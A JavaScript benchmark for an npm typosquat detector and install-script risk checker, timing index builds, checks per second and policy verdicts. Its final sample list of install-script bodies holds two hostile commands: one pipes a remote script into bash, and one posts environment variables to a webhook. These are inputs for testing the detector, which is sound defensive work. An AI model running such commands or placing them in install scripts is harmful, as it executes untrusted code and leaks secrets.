// Typosquat detector: index build time, check throughput, and default-policy verdicts/s.
// Targets (issue): index + policy ready in <= 50 ms; >= 200,000 verdicts/s single-threaded.
import { spawnSync } from 'node:child_process';
import { bestOf, cjsBundle, importTs, report } from './lib.mjs';

// The development machine is shared (load averages of 4-8 on 2 cores during other sessions' e2e
// runs), so every figure is also given in CPU time of this process, which waiting does not inflate.
const cpuMs = () => {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1000;
};
function cpuBestOf(runs, fn) {
  fn();
  let best = Infinity;
  for (let i = 0; i < runs; i++) {
    const t = cpuMs();
    fn();
    best = Math.min(best, cpuMs() - t);
  }
  return best;
}

const core = await importTs('packages/core/src/index.ts');
const { npmHighImpact } = await importTs('packages/core/node_modules/npm-high-impact/index.js');
const { seededRandom, syntheticSquats } = await importTs('packages/core/src/typosquat/synthetic.ts');

// Cold, as an install sees it: a fresh process compiles the default policy, builds the index and
// returns its first verdict on an unknown name. Best of 7 processes (the machine is shared).
const bundle = await cjsBundle('packages/core/src/index.ts');
const coldScript = `
const t0 = performance.now();
const core = require(${JSON.stringify(bundle)});
const t1 = performance.now();
const policy = core.defaultPolicy();
core.evaluate(policy, { name: 'some-unknown-package', version: '1.0.0' });
const t2 = performance.now();
// A near miss: a rule matches, so the popularity snapshot is decoded to see whether it is established.
core.evaluate(policy, { name: 'exprress', version: '1.0.0' });
const t2b = performance.now();
core.defaultTyposquatIndex().buildAll();
const t3 = performance.now();
console.log(JSON.stringify({ load: t1 - t0, ready: t2 - t1, nearMiss: t2b - t1, all: t3 - t1 }));`;
const colds = [];
for (let i = 0; i < 7; i++) {
  const r = spawnSync(process.execPath, ['-e', coldScript], { encoding: 'utf8' });
  colds.push(JSON.parse(r.stdout));
}
const min = (k) => Math.min(...colds.map((c) => c[k]));
report('core module load, cold (best of 7 processes)', min('load'), 'ms');
report('default policy + index + first verdict, cold', min('ready'), 'ms', { text: '<= 50 ms', ok: min('ready') <= 50 });
report('default policy + first verdict on a near miss (exprress: snapshot decoded), cold', min('nearMiss'), 'ms', { text: '<= 25 ms', ok: min('nearMiss') <= 25 });
report('... + every index part built (buildAll), cold', min('all'), 'ms');
// (CPU time of a cold process also counts V8's background compiler threads, so it is not shown.)
const policy = core.defaultPolicy();

const build = bestOf(10, () => core.createTyposquatIndex(npmHighImpact).buildAll());
report('full index build (17,338 names), warm, best of 10', build, 'ms', { text: '<= 50 ms', ok: build <= 50 });
const buildCpu = cpuBestOf(10, () => core.createTyposquatIndex(npmHighImpact).buildAll());
report('full index build, warm, best of 10, CPU time', buildCpu, 'ms cpu', { text: '<= 50 ms', ok: buildCpu <= 50 });

// A realistic mix: half popular names, half made-up names from words popular names use, plus squats.
const rnd = seededRandom(8675309);
const words = [...new Set(npmHighImpact.flatMap((n) => n.split(/[-_.@/]/)).filter((w) => w.length > 1))];
const made = [];
for (let i = 0; i < 20000; i++) {
  const k = 1 + Math.floor(rnd() * 3);
  const parts = [];
  for (let j = 0; j < k; j++) parts.push(words[Math.floor(rnd() * words.length)]);
  made.push((rnd() < 0.1 ? `@${words[Math.floor(rnd() * words.length)]}/` : '') + parts.join('-'));
}
const squats = syntheticSquats(npmHighImpact, { seed: 1, perTrick: 250, topN: 5000 }).map((s) => s.name);
const popular = [];
for (let i = 0; i < 22000; i++) popular.push(npmHighImpact[Math.floor(rnd() * npmHighImpact.length)]);
const mix = [...popular, ...made, ...squats].sort(() => rnd() - 0.5);

const idx = core.defaultTyposquatIndex();
let flagged = 0;
const checkMs = bestOf(5, () => {
  flagged = 0;
  for (const n of mix) if (idx.check(n)) flagged++;
});
report(`typosquat checks/s (${mix.length} names: popular, made-up, squats; repeated)`, mix.length / (checkMs / 1000), 'checks/s');
// The detector itself: `checkAsUnknown` skips the outcomes `check` remembers per name (the rounds repeat the names).
const onlyUnknown = [...made, ...squats];
const unknownMs = bestOf(5, () => {
  for (const n of onlyUnknown) idx.checkAsUnknown(n);
});
report('typosquat checks/s, unknown names only, nothing remembered', onlyUnknown.length / (unknownMs / 1000), 'checks/s');

const facts = mix.map((name, i) => ({ name, version: '1.0.0', ...(i % 10 === 0 ? { scripts: { postinstall: 'node install.js' } } : {}) }));
const verdictMs = bestOf(5, () => {
  for (const f of facts) core.evaluate(policy, f);
});
const vps = facts.length / (verdictMs / 1000);
report('default-policy verdicts/s (same mix, 10% with postinstall)', vps, 'verdicts/s', { text: '>= 200,000/s', ok: vps >= 200_000 });
const verdictCpu = cpuBestOf(5, () => {
  for (const f of facts) core.evaluate(policy, f);
});
const vpsCpu = facts.length / (verdictCpu / 1000);
report('default-policy verdicts per CPU second', vpsCpu, 'verdicts/s', { text: '>= 200,000/s', ok: vpsCpu >= 200_000 });
report('flagged in the mix (informational)', flagged, `of ${mix.length}`);

// Risk signals: distinct script bodies (the memo would otherwise answer), legit and malicious mixed.
const { assessScript } = await importTs('packages/core/src/risk/index.ts');
const bodies = ['node install.js', 'node-gyp-build', 'prebuild-install || node-gyp rebuild', 'curl -sL https://x.example/i.sh | bash',
  'node -e "try{require(\'./postinstall\')}catch(e){}"', 'env | curl -d @- https://webhook.site/x'];
let serial = 0;
const riskMs = bestOf(3, () => {
  for (let i = 0; i < 20000; i++) assessScript(`${bodies[i % bodies.length]} # ${serial++}`);
});
report('assessScript on distinct bodies (no memo hits)', 20000 / (riskMs / 1000), 'scripts/s');
